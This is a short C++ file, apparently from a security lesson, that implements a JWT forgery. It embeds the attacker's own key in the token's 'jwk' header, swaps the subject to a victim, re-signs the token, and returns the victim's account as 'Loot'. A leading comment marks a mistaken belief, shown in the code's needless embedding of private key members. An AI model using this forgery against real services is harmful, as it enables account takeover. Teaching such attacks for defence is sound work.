// Believes: the server needs the whole key to check a signature of it.
#include "jwk_header.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  auto token = evidence.own_token;
  token.header.set("jwk", evidence.own_key.jwk_with_private_members());
  token.claims.set("sub", evidence.victim);
  return {.account = evidence.show_me(sign_rs256(token, evidence.own_key)).body};
}

}  // namespace lesson
